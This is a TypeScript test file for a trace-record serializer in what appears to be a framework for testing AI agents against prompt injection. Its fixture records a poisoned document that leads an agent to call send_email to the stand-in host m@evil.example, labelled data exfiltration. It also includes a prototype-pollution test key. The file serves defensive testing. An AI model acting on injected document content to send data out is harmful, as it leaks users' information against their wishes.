import {
  EvalOutcome,
  EvaluationPurpose,
  ObservabilityLevel,
  PayloadFormat,
  Result,
  SafetyStatus,
  TraceEndReason,
  createPayload,
} from '../../../src/index';
import {
  SchemaError,
  TRACE_SCHEMA_VERSION,
  UnsupportedSchemaVersionError,
  deserializeRecord,
  serializeRecord,
} from '../../../src/trace';

function fullResult(): Result {
  const attachment = createPayload({
    content: 'poisoned doc',
    id: 'doc-1',
    format: PayloadFormat.MARKDOWN,
  });
  const evaluation = {
    outcome: EvalOutcome.DETECTED,
    confidence: 0.9,
    evidence: ['send_email({"to":"m@evil.example"})'],
    rationale: "Tool 'send_email' called with matching parameters",
    undeterminedOperands: ['a gap'],
  };
  const metadata: Record<string, unknown> = { run: 'r1', nested: { n: 1.5 } };
  Object.defineProperty(metadata, '__proto__', { value: { polluted: true }, enumerable: true });
  return new Result({
    status: SafetyStatus.UNSAFE,
    summary: 'Attack objective detected: send_email(...)',
    observabilityLevel: ObservabilityLevel.TOOL_AND_SIDE_EFFECTS,
    harmCategory: 'data_exfiltration',
    strategy: 'xpia',
    durationSeconds: 1.25,
    terminalEvaluation: evaluation,
    traceEndReason: TraceEndReason.STOP_CONDITION_MET,
    injections: [
      { payloadId: 'p-1', surfaceName: 'TicketQueue' },
      { payloadId: null, surfaceName: 'Inline' },
    ],
    population: { id: 'abc', index: 1, size: 3, threshold: 0.8 },
    metadata,
    turns: [
      {
        request: { prompt: 'Summarize', attachments: [attachment] },
        response: {
          text: 'Done',
          toolCalls: [
            {
              name: 'send_email',
              arguments: { to: 'm@evil.example' },
              result: 'sent',
              timestamp: new Date('2026-03-01T10:00:00.000Z'),
            },
          ],
          sideEffects: [{ kind: 'email_sent', details: { to: 'm@evil.example' } }],
          metadata: { response_id: 'x' },
        },
        evalResult: evaluation,
        evalPurpose: EvaluationPurpose.STOP_CHECK,
        turnNumber: 0,
        timestamp: new Date('2026-03-01T10:00:01.000Z'),
        driverReasoning: 'because',
      },
    ],
  });
}

const envelope = (result: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ version: TRACE_SCHEMA_VERSION, ...extra, result });
const minimal = { status: 'safe', summary: 's', observability_level: 'tool_only' };
const withTurn = (turn: Record<string, unknown>) => ({
  ...minimal,
  turns: [{ request: { prompt: 'p' }, response: { text: 't' }, ...turn }],
});

describe('serializeRecord / deserializeRecord', () => {
  test('round-trips a complete Result with its attribution', () => {
    const original = fullResult();
    const text = serializeRecord({
      result: original,
      nodeId: 'tests/x.test.ts > a > b',
      resultIndex: 2,
    });
    const parsed = JSON.parse(text) as Record<string, unknown>;
    expect(Object.keys(parsed)).toEqual(['version', 'pytest_nodeid', 'result_index', 'result']);
    expect(parsed.version).toBe('rampart.trace.v2');
    const record = deserializeRecord(text);
    expect(record.nodeId).toBe('tests/x.test.ts > a > b');
    expect(record.resultIndex).toBe(2);
    expect(record.result).toBeInstanceOf(Result);
    expect(record.result.toOptions()).toEqual(original.toOptions());
    expect(Object.getPrototypeOf(record.result.metadata)).toBe(Object.prototype);
    expect(Object.getOwnPropertyDescriptor(record.result.metadata, '__proto__')?.value).toEqual({
      polluted: true,
    });
    expect(serializeRecord(record)).toBe(text);
  });

  test('attribution keys are omitted when unset and absent on read', () => {
    const text = serializeRecord({
      result: new Result({ status: 'safe', summary: 's', observabilityLevel: 'tool_only' }),
    });
    expect(Object.keys(JSON.parse(text) as object)).toEqual(['version', 'result']);
    const record = deserializeRecord(text);
    expect('nodeId' in record).toBe(false);
    expect('resultIndex' in record).toBe(false);
  });

  test('only JSON strings of version rampart.trace.v2 are read', () => {
    expect(() => deserializeRecord({} as never)).toThrow(
      new SchemaError('record: expected a JSON string'),
    );
    expect(() => deserializeRecord('{"version": ')).toThrow(/^record: invalid JSON \(/);
    expect(() => deserializeRecord('[]')).toThrow('record must be an object, got array(0)');
    for (const version of [undefined, 'rampart.trace.v1', 'rampart.trace.v3']) {
      const text = JSON.stringify({ version, result: minimal });
      expect(() => deserializeRecord(text)).toThrow(UnsupportedSchemaVersionError);
      expect(() => deserializeRecord(text)).toThrow(
        /^No decoder registered for trace schema version /,
      );
    }
  });

  test('non-finite numbers and NaN/Infinity literals are rejected', () => {
    expect(() =>
      deserializeRecord(envelope({ ...minimal, duration_seconds: 1 }).replace('1}', '1e999}')),
    ).toThrow(/record: invalid JSON \(non-finite number at position/);
    expect(() =>
      deserializeRecord(`{"version":"${TRACE_SCHEMA_VERSION}","result":{"status":"safe","x":NaN}}`),
    ).toThrow(/record: invalid JSON/);
  });

  test('strings and keys must be well-formed Unicode', () => {
    const lone = envelope({ ...minimal, summary: 'x' }).replace(
      '"summary":"x"',
      '"summary":"\\ud800x"',
    );
    expect(() => deserializeRecord(lone)).toThrow(/lone UTF-16 surrogate/);
    const key = envelope({ ...minimal, metadata: { k: 1 } }).replace('"k"', '"\\udc00"');
    expect(() => deserializeRecord(key)).toThrow(/lone UTF-16 surrogate/);
  });

  test('integer fields require integer notation; free-form numbers do not', () => {
    expect(() =>
      deserializeRecord(
        envelope(minimal, { result_index: 0 }).replace('"result_index":0', '"result_index":0.0'),
      ),
    ).toThrow('record.result_index must be written in integer notation (no fraction or exponent)');
    const turnText = envelope(withTurn({ turn_number: 1 })).replace(
      '"turn_number":1',
      '"turn_number":1e0',
    );
    expect(() => deserializeRecord(turnText)).toThrow(
      'record.result.turns[0].turn_number must be written in integer notation',
    );
    const population = envelope({
      ...minimal,
      population: { id: 'p', index: 0, size: 2, threshold: 1 },
    }).replace('"size":2', '"size":2.0');
    expect(() => deserializeRecord(population)).toThrow(
      'record.result.population.size must be written in integer notation',
    );
    const free = envelope({ ...minimal, metadata: { turn_number: 1 }, duration_seconds: 2 })
      .replace('"turn_number":1', '"turn_number":1.0')
      .replace('"duration_seconds":2', '"duration_seconds":2.0');
    expect(deserializeRecord(free).result.metadata).toEqual({ turn_number: 1 });
  });

  test('envelope fields are validated', () => {
    expect(() => deserializeRecord(envelope(minimal, { result_index: -1 }))).toThrow(
      'result_index must be an integer >= 0, got -1',
    );
    expect(() => deserializeRecord(envelope(minimal, { pytest_nodeid: 5 }))).toThrow(
      'pytest_nodeid must be a string, got 5',
    );
    expect(() => serializeRecord({ result: fullResult(), resultIndex: 1.5 })).toThrow(
      'serializeRecord resultIndex must be an integer >= 0, got 1.5',
    );
    expect(() => serializeRecord({ result: {} as never })).toThrow(
      /serializeRecord expects \{ result: Result/,
    );
  });

  test('closed enums and required fields fail closed; unknown properties are tolerated', () => {
    expect(() => deserializeRecord(envelope({ ...minimal, status: 'fine' }))).toThrow(
      /result.status must be one of/,
    );
    expect(() =>
      deserializeRecord(envelope({ status: 'safe', observability_level: 'tool_only' })),
    ).toThrow('result.summary must be a string, got undefined');
    const record = deserializeRecord(envelope({ ...minimal, future_field: 1 }, { producer: 'py' }));
    expect(record.result.status).toBe('safe');
    expect(record.result.harmCategory).toBeNull();
  });

  test('record-level rules: prompt or attachment, text-only payloads, purpose needs a result, finite confidence', () => {
    expect(() =>
      deserializeRecord(envelope(withTurn({ request: { prompt: null, attachments: [] } }))),
    ).toThrow('result.turns[0].request: Request must include at least a prompt or attachments.');
    const binary = { content: 'c', id: 'd', format: 'pdf', artifact: '/tmp/d.pdf' };
    expect(() =>
      deserializeRecord(envelope(withTurn({ request: { prompt: 'p', attachments: [binary] } }))),
    ).toThrow(
      'result.turns[0].request.attachments[0]: binary payloads (format "pdf") are not representable in rampart.trace.v2',
    );
    expect(() => deserializeRecord(envelope(withTurn({ eval_purpose: 'stop_check' })))).toThrow(
      'result.turns[0].eval_purpose: requires an eval_result on the same turn',
    );
    expect(() =>
      deserializeRecord(
        envelope({ ...minimal, terminal_evaluation: { outcome: 'detected', confidence: null } }),
      ),
    ).toThrow('result.terminal_evaluation.confidence must be a finite number, got NaN');
  });

  test('serializing a Result the schema cannot hold throws instead of writing an unreadable record', () => {
    const result = fullResult().with({
      terminalEvaluation: {
        outcome: 'detected',
        confidence: Number.NaN,
        evidence: [],
        rationale: '',
        undeterminedOperands: [],
      },
    });
    expect(() => serializeRecord({ result })).toThrow(SchemaError);
  });
});
